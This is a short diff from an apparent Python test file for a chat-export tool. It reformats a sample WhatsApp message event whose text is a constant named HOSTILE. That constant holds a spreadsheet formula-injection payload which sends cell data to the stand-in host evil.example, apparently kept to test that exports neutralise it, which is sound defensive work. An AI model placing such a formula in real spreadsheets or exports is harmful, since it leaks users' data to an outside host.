@@ -11,9 +11,15 @@ HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 def sample() -> Event:
     return Event(
-        timestamp=datetime(2025, 10, 26, 1, 5, 0, 250_000, tzinfo=timezone.utc), platform="whatsapp", kind="message",
-        source=SourceRef("b" * 64, "line 9"), sender="-Mark", text=HOSTILE, thread="chat",
-        attachments=[Attachment("IMG-1.jpg", "c" * 64, "image/jpeg")], event_id="d" * 32,
+        timestamp=datetime(2025, 10, 26, 1, 5, 0, 250_000, tzinfo=timezone.utc),
+        platform="whatsapp",
+        kind="message",
+        source=SourceRef("b" * 64, "line 9"),
+        sender="-Mark",
+        text=HOSTILE,
+        thread="chat",
+        attachments=[Attachment("IMG-1.jpg", "c" * 64, "image/jpeg")],
+        event_id="d" * 32,
     )
 
 
